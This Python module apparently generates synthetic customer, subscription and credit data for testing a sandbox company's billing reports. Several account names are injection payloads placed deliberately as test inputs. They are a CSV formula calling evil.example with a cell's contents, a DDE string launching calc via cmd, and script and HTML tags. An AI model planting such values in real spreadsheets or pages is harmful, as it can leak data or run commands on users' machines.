"""Who the customers are: accounts, how they are found in provider records, subscriptions and
credits.

Cobalt Run sells sandboxes. It runs them at E2B (one team for the platform, one that belongs to a
customer), at OpenComputer (one organisation a customer) and on a small GPU fleet of its own called
"foundry". One partner, who pays nothing, has the rest: sandboxes at Daytona, agents and storage.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from data.generator.clock import instant, local_midnight
from data.generator.seeded import Seeded

WINDOW_START = instant("2026-07-22T00:00:00Z")
AS_OF = instant("2026-09-02T12:00:00Z")
CUSTOMER_MOVES = instant("2026-08-16T00:00:00Z")

UNATTRIBUTED = "unattributed"


@dataclass(frozen=True)
class Template:
    """An E2B template: every sandbox made from it has the same size."""

    name: str
    vcpu: int
    memory_mib: int


TEMPLATES = {
    t.name: t
    for t in (
        Template("base", 2, 512),
        Template("code-interpreter-v1", 2, 1024),
        Template("notebook", 2, 4096),
        Template("browser-pool", 4, 8192),
        Template("desktop", 8, 16384),
    )
}


@dataclass(frozen=True)
class Habits:
    """How an account uses sandboxes. Rates are starts in ten working days."""

    e2b: tuple[str, ...] = ()
    e2b_rate: int = 0
    pauses: int = 150  # permille of E2B runs that end in a pause and come back
    oc: tuple[int, ...] = ()
    oc_rate: int = 0
    resizes: int = 80  # permille of OpenComputer runs that change size
    services: tuple[int, ...] = ()  # OpenComputer sandboxes kept up for days
    foundry_rate: int = 0
    api: bool = False
    artifacts: bool = False
    contained: bool = False  # no run crosses a month end, a poll window or the outage
    short: bool = False  # runs of seconds to minutes
    exact_starts: bool = False  # the start event carries the very start of the run


@dataclass(frozen=True)
class Account:
    slug: str
    name: str
    zone: str
    plan: str
    habits: Habits
    currency: str = "usd"
    pays: bool = True  # has a Stripe customer
    plants: str = ""  # the cause of the one discrepancy planted in its Stripe data
    account_id: str = ""
    stripe_customer_id: str = ""
    email: str = ""
    e2b_customer: str = ""
    org_id: str = ""
    fleet_ref: str = ""


@dataclass(frozen=True)
class Subscription:
    subscription_id: str
    account_id: str
    plan_id: str
    started_at: int
    ended_at: int | None = None
    anchor: int | None = None
    spending_cap: str = ""
    on_demand: bool = True


@dataclass(frozen=True)
class Link:
    provider: str
    match_key: str
    match_value: str
    account_id: str
    valid_from: int | None = None
    valid_to: int | None = None


@dataclass(frozen=True)
class Credit:
    credit_id: str
    account_id: str
    amount: str
    currency: str
    category: str
    priority: int
    effective_at: int
    expires_at: int | None


@dataclass
class Company:
    accounts: list[Account]
    links: list[Link] = field(default_factory=list)
    subscriptions: list[Subscription] = field(default_factory=list)
    credits: list[Credit] = field(default_factory=list)
    platform_team: str = ""
    customer_team: str = ""

    def by_slug(self, slug: str) -> Account:
        return next(a for a in self.accounts if a.slug == slug)

    def by_id(self, account_id: str) -> Account:
        return next(a for a in self.accounts if a.account_id == account_id)


_ENTERPRISE = Habits(
    e2b=("base", "code-interpreter-v1", "browser-pool"),
    e2b_rate=22,
    services=(16384,),
    oc=(4096, 8192, 16384),
    oc_rate=6,
    api=True,
    artifacts=True,
)
_SMALL = Habits(oc=(1024, 4096), oc_rate=16, services=(1024,))
_MIDDLE = Habits(oc=(4096, 8192), oc_rate=14, services=(4096,))
_LARGE = Habits(oc=(8192, 16384, 32768), oc_rate=10, services=(8192,))
_BOTH = Habits(e2b=("code-interpreter-v1", "notebook"), e2b_rate=24, oc=(1024, 4096), oc_rate=14)
_PLANTED_E2B = Habits(pauses=0, contained=True, exact_starts=True)

# slug, name, zone, plan, habits. Some names are hostile on purpose, to reports and to CSV.
# fmt: off
_ACCOUNTS = [
    Account("halvorsen", "Halvorsen Genomics AS", "Europe/Berlin", "enterprise", _ENTERPRISE),
    Account("meridian", "Meridian Underwriting, Inc.", "America/Los_Angeles", "enterprise",
            replace(_ENTERPRISE, services=(8192, 8192))),
    Account("sunaba", "東京サンドボックス株式会社", "Asia/Tokyo", "enterprise",
            replace(_ENTERPRISE, api=False, artifacts=False)),
    Account("kestrel", "Kestrel & Vane", "UTC", "enterprise", _ENTERPRISE,
            plants="decimal_gigabytes"),
    Account("kisan", "Bharat Kisan Data Pvt. Ltd.", "Asia/Kolkata", "enterprise",
            replace(_ENTERPRISE, services=(4096, 8192), api=False, artifacts=False)),
    Account("boldtype", "<b>Bold Type</b> Studios", "UTC", "enterprise",
            replace(_ENTERPRISE, foundry_rate=14)),
    Account("orchard", "Orchard Payments", "America/Los_Angeles", "enterprise",
            replace(_ENTERPRISE, services=(32768,), foundry_rate=10)),
    Account("energie", "Société Générale d’Énergie Sâgesse", "Europe/Paris", "enterprise",
            replace(_ENTERPRISE, services=(8192,))),
    Account("pebble", "Pebble Agents", "UTC", "pro",
            replace(_PLANTED_E2B, e2b=("notebook",), e2b_rate=24), plants="retries_counted_again"),
    Account("slowloris", "Slow Loris Labs GmbH", "Europe/Berlin", "pro",
            replace(_PLANTED_E2B, e2b=("browser-pool",), e2b_rate=12, pauses=650),
            plants="paused_time_counted"),
    Account("monsoon", "Monsoon Analytics", "Asia/Kolkata", "pro",
            replace(_PLANTED_E2B, e2b=("desktop",), e2b_rate=20), plants="late_usage_not_pushed"),
    Account("undertow", 'Undertow, "The" Company', "UTC", "pro",
            replace(_PLANTED_E2B, e2b=("browser-pool",), e2b_rate=20),
            plants="missing_end_not_billed"),
    Account("ceilidh", "Ceilidh Software Ltd", "Europe/London", "pro",
            Habits(oc=(32768,), oc_rate=160, resizes=0, contained=True, short=True),
            plants="rounded_up_per_record"),
    Account("grandfather", "Grandfather Clause LLC", "America/Los_Angeles", "pro",
            Habits(oc=(4096,), oc_rate=10, services=(4096,)), plants="price_not_in_force"),
    Account("nightshift", "Nightshift Rendering", "UTC", "pro",
            Habits(oc=(16384,), oc_rate=20, resizes=0), plants="usage_after_finalization"),
    Account("hyperlink", '=HYPERLINK("https://evil.example/?q="&A1,"Invoice")', "UTC", "pro",
            _BOTH),
    Account("oharra", "O'Harra, Pike; \"Sons\" & Co.", "Europe/London", "pro", _SMALL),
    Account("zlutoucky", "Žluťoučký kůň s.r.o.", "Europe/Prague", "pro", _BOTH),
    Account("plusdial", "+1-800-COMPUTE", "America/New_York", "pro", _SMALL),
    Account("atcmd", "@SUM(1+1)*cmd|' /C calc'!A0", "UTC", "pro", _SMALL),
    Account("minus", "-2+3 Robotics", "America/Los_Angeles", "pro", _MIDDLE),
    Account("rimal", "مختبر الرمال", "Asia/Dubai", "pro", _SMALL),
    Account("rocket", "Rocket 🚀 Raccoon", "America/Chicago", "pro", _BOTH),
    Account("script", "<script>alert('x')</script> Media", "UTC", "pro", _SMALL),
    Account("saltmarsh", "Saltmarsh Ventures", "UTC", "pro",
            Habits(e2b=("notebook", "browser-pool"), e2b_rate=18)),
    Account("saltmarsh-ai", "Saltmarsh AI", "UTC", "pro", Habits(oc=(4096,), oc_rate=4)),
    Account("quillon", "Quillon Systems", "America/Los_Angeles", "pro",
            Habits(e2b=("notebook", "desktop"), e2b_rate=16)),
    Account("fjord", "Fjord Kartverk AS", "Europe/Oslo", "pro", _MIDDLE),
    Account("banyan", "Banyan Tutors", "Asia/Kolkata", "pro", replace(_MIDDLE, artifacts=True)),
    Account("copperline", "Copperline Games", "America/Denver", "pro", _LARGE),
    Account("tidewrack", "Tidewrack", "UTC", "pro", replace(_LARGE, artifacts=True)),
    Account("lumen", "Lumen & Ash", "Australia/Sydney", "pro", _MIDDLE),
    Account("papagaio", "Papagaio Dados Ltda.", "America/Sao_Paulo", "pro", _SMALL),
    Account("month-end", "Ultimo Bookkeeping", "UTC", "pro", _MIDDLE),
    Account("newcomer", "Greenhorn Labs", "Europe/Berlin", "pro", _BOTH),
    Account("midmonth", "Halfway House Studio", "America/New_York", "pro", _SMALL),
    Account("leaver", "Exeunt Theatre Tech", "Europe/London", "pro", _SMALL),
    Account("upgrader", "Bootstrap Bill", "America/Los_Angeles", "free",
            Habits(oc=(4096,), oc_rate=9)),
    Account("euro", "Grünspan Datentechnik GmbH", "Europe/Berlin", "pro_eur", _MIDDLE,
            currency="eur"),
    Account("hobby-ada", "Ada (hobby)", "Europe/London", "free",
            Habits(oc=(4096,), oc_rate=7), pays=False),
    Account("hobby-lin", "Lín Þór", "UTC", "free", Habits(oc=(4096,), oc_rate=7), pays=False),
]
# fmt: on

# Not in the list: it has a stream of chance of its own, so that it disturbs nothing.
_PARTNER = Account("lantern", "Lantern Field School", "UTC", "partner", Habits(), pays=False)

# Accounts whose subscription is not simply "the same plan since 1 July".
_STARTS = {
    "month-end": instant("2026-07-31T00:00:00Z"),
    "newcomer": local_midnight("Europe/Berlin", 2026, 8, 6),
    "midmonth": instant("2026-08-11T15:30:00Z"),
}
LEAVER_ENDS = local_midnight("Europe/London", 2026, 8, 20)
UPGRADE_AT = local_midnight("America/Los_Angeles", 2026, 8, 12)


def found_company(seed: int) -> Company:
    """Give every account its ids and write down links, subscriptions and credits."""
    chance = Seeded(seed, "company")
    company = Company([_named(account, chance) for account in _ACCOUNTS])
    company.platform_team = chance.uuid()
    company.customer_team = chance.uuid()
    company.links = _links(company)
    company.subscriptions = _subscriptions(company, chance)
    company.credits = _credits(company, chance)
    _add_partner(company, Seeded(seed, "partner"))
    return company


def _add_partner(company: Company, chance: Seeded) -> None:
    partner = _named(_PARTNER, chance)
    company.accounts.append(partner)
    company.links.append(Link("daytona", "account", partner.org_id, partner.account_id))
    company.subscriptions.append(
        Subscription(
            subscription_id=chance.stripe_id("sub"),
            account_id=partner.account_id,
            plan_id=partner.plan,
            started_at=local_midnight(partner.zone, 2026, 7, 1),
        )
    )


def active_window(company: Company, account: Account) -> tuple[int, int]:
    """[first, last) instant at which the account may run sandboxes: inside its subscriptions."""
    own = [s for s in company.subscriptions if s.account_id == account.account_id]
    start = max(WINDOW_START, min(s.started_at for s in own))
    ends = [AS_OF if s.ended_at is None else s.ended_at for s in own]
    return start, min(AS_OF, max(ends))


def _named(account: Account, chance: Seeded) -> Account:
    return replace(
        account,
        account_id=f"acct_{chance.hex(12)}",
        stripe_customer_id=chance.stripe_id("cus") if account.pays else "",
        email=f"billing@{account.slug}.example",
        e2b_customer=account.slug,
        org_id=chance.uuid(),
        fleet_ref=f"F-{chance.between(10000, 99999)}",
    )


def _links(company: Company) -> list[Link]:
    links: list[Link] = []
    for account in company.accounts:
        habits, owner = account.habits, account.account_id
        if account.slug == "saltmarsh":
            successor = company.by_slug("saltmarsh-ai").account_id
            links += [
                Link("e2b", "metadata:customer", "saltmarsh", owner, None, CUSTOMER_MOVES),
                Link("e2b", "metadata:customer", "saltmarsh", successor, CUSTOMER_MOVES, None),
            ]
        elif account.slug == "quillon":
            links.append(Link("e2b", "account", company.customer_team, owner))
        elif habits.e2b:
            links.append(Link("e2b", "metadata:customer", account.e2b_customer, owner))
        if habits.oc or habits.services:
            links.append(Link("opencomputer", "account", account.org_id, owner))
        if account.slug == "orchard":
            links.append(Link("foundry", "account", account.fleet_ref, owner))
    return links


def _subscriptions(company: Company, chance: Seeded) -> list[Subscription]:
    subscriptions: list[Subscription] = []
    for account in company.accounts:
        start = _STARTS.get(account.slug, local_midnight(account.zone, 2026, 7, 1))
        first = Subscription(
            subscription_id=chance.stripe_id("sub"),
            account_id=account.account_id,
            plan_id=account.plan,
            started_at=start,
            anchor=start if account.slug == "month-end" else None,
            spending_cap="5.00"
            if account.plan == "free"
            else chance.pick(["", "", "100.00", "500.00"])
            if account.plan != "enterprise"
            else "",
            on_demand=account.plan != "free",
        )
        if account.slug == "leaver":
            first = replace(first, ended_at=LEAVER_ENDS)
        if account.slug == "upgrader":
            subscriptions.append(replace(first, ended_at=UPGRADE_AT))
            first = replace(
                first,
                subscription_id=chance.stripe_id("sub"),
                plan_id="pro",
                started_at=UPGRADE_AT,
                spending_cap="100.00",
                on_demand=True,
            )
        subscriptions.append(first)
    return subscriptions


def _credits(company: Company, chance: Seeded) -> list[Credit]:
    def credit(
        account: Account, amount: str, category: str, priority: int, start: int, end: int
    ) -> Credit:
        return Credit(
            chance.stripe_id("credgr"),
            account.account_id,
            amount,
            account.currency,
            category,
            priority,
            start,
            end,
        )

    year_end = instant("2026-12-31T00:00:00Z")
    credits: list[Credit] = []
    for account in company.accounts:
        own = [s for s in company.subscriptions if s.account_id == account.account_id]
        pro = [s for s in own if s.plan_id.startswith("pro")]
        if pro:
            credits.append(credit(account, "30.00", "promotional", 50, pro[0].started_at, year_end))
    for slug, amount in (("copperline", "250.00"), ("tidewrack", "100.00"), ("minus", "20.00")):
        account = company.by_slug(slug)
        start = local_midnight(account.zone, 2026, 7, 1)
        credits.append(credit(account, amount, "paid", 60, start, instant("2027-07-01T00:00:00Z")))
    expired = company.by_slug("fjord")
    credits.append(
        credit(
            expired,
            "25.00",
            "promotional",
            40,
            local_midnight(expired.zone, 2026, 7, 1),
            instant("2026-07-15T00:00:00Z"),
        )
    )
    return credits
